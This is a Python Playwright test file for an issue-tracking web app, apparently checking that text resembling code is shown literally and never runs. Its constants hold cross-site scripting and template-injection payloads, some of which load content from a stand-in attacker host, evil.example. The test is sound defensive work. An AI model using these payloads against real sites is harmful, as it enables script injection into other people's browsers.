"""Text that wants to be code stays text, wherever people or customers meet it again."""

from playwright.sync_api import expect

from tests.browser import actions
from tests.browser.conftest import Staff, SwitchOn
from tests.browser.store import Store
from tests.support.browsers import Phone, too_wide
from web.rules.vocabulary import Role

# What would run opens a dialog or asks another host, and of both the phone complains.
CODE = (
    "<img src=x onerror=alert(1)>",
    '"><script>alert(2)</script>',
    "<div hx-get=//evil.example/ hx-trigger=load>",
    "' hx-on:load='alert(3)",
    "{{7*7}}{% raw %}",
    "javascript:alert(4)//",
    "</textarea><svg onload=alert(5)>",
)
ALL = " ".join(CODE)
NAME = "<img/src=x/onerror=alert(6)>"
SHORT = '"><img src=//evil.example/x>'


def test_what_people_write_is_shown_as_they_wrote_it(
    store: Store, staff: Staff, phone: SwitchOn
) -> None:
    mallory = staff(f"{NAME} {SHORT}", Role.ADMIN)
    issue = report(mallory)
    write_everywhere(mallory, issue)
    mallory.page.get_by_text("Read all of it").click()
    assert_text(mallory, *CODE, NAME, SHORT)
    follow = actions.share(mallory, issue)
    pages = {"/": CODE[:1], "/me": (NAME,), "/settings/people?find=onerror": (NAME,)}
    for path, words in pages.items():
        mallory.page.goto(path)
        assert_text(mallory, *words)
    kim = staff("Kim Novak", Role.LEAD)  # an admin has those of other tests before it
    kim.page.goto("/issues")
    assert_text(kim, *CODE[:1])
    carla = phone("Carla", base_url=store.url)
    carla.page.goto(follow)
    assert_text(carla, NAME)


def test_what_was_refused_comes_back_as_it_was_typed(staff: Staff) -> None:
    ana = staff("Ana Berg")
    for _ in range(2):  # the second time it is asked whether that is another one
        ana.page.goto("/issues/new")
        ana.page.get_by_label("What is not working?").fill(NAME)
        ana.page.get_by_label("Place").fill(SHORT)
        ana.page.get_by_role("button", name="I own this").click()
        expect(ana.page.locator(".error, .status-head").first).to_be_visible()
    expect(ana.page.get_by_label("What is not working?")).to_be_focused()
    expect(ana.page.get_by_label("Place")).to_have_value(SHORT)


def test_an_address_that_is_code_opens_nothing(store: Store, staff: Staff) -> None:
    ana = staff("Ana Berg")
    ref = store.report("Ana Berg", "Till 4", customer_contact="javascript:alert(7)@x")
    ana.page.goto(f"/issues/{ref}")
    links = ana.page.locator("a").evaluate_all("links => links.map(link => link.protocol)")
    assert set(links) <= {"http:", "mailto:", "tel:"}


def report(phone: Phone) -> str:
    """Through the form, in every field of it; the address of the issue."""
    phone.page.goto("/issues/new")
    phone.page.get_by_label("What is not working?").fill(ALL)
    phone.page.get_by_label("Place").fill(SHORT)
    phone.page.locator("summary").click()
    phone.page.get_by_label("Customer’s first name").fill(NAME)
    phone.page.get_by_label("How to reach them").fill(SHORT)
    actions.own(phone.page)
    actions.heading(phone, "You own this.").wait_for()
    return phone.page.url.partition("?")[0]


def write_everywhere(phone: Phone, issue: str) -> None:
    """In every act that takes words, each answered by a card that a script puts in place."""
    phone.page.goto(issue)
    actions.update(phone, ALL)
    expect(phone.page.locator(".stop__what", has_text="You updated ")).to_be_visible()
    actions.note(phone, ALL)
    actions.expect_in_history(phone.page, "You added a note.")
    actions.resolve(phone, ALL)
    actions.reopen(phone, ALL)
    expect(phone.page.get_by_text("You reopened it")).to_be_visible()


def assert_text(phone: Phone, *words: str) -> None:
    shown = phone.page.locator("main").inner_text()
    for one in words:
        assert one in shown, f"{one!r} is not on {phone.page.url}"
    assert phone.page.locator("img[src*='x'], main script, svg[onload], [hx-get]").count() == 0
    assert too_wide(phone.page) == []
